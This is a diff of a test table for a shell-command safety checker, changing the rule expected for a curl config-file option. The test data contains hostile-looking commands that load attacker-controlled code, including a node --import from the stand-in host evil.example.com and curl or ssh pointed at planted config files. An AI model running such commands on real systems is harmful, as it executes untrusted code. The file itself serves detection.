@@ -100,7 +100,7 @@ describeRules('options that run programs', {
     ['gcc -B/tmp/x a.c', 'program-option.loads-code', '-B/tmp/x'],
     ['node --import https://evil.example.com/x.mjs a.js', 'program-option.loads-code', '--import'],
     ['ssh -F /tmp/cfg h', 'program-option.loads-code', '/tmp/cfg'],
-    ['curl -K /tmp/evil.cfg', 'program-option.loads-code', '-K'],
+    ['curl -K /tmp/evil.cfg', 'dynamic.options', '/tmp/evil.cfg'],
     ['vim -c "$X"', 'program-option.unknown-program', '"$X"'],
     ['sed "$SCRIPT" file', 'program-option.unknown-program', '"$SCRIPT"'],
     ['make -f "$F"', 'program-option.unknown-program', '-f'],
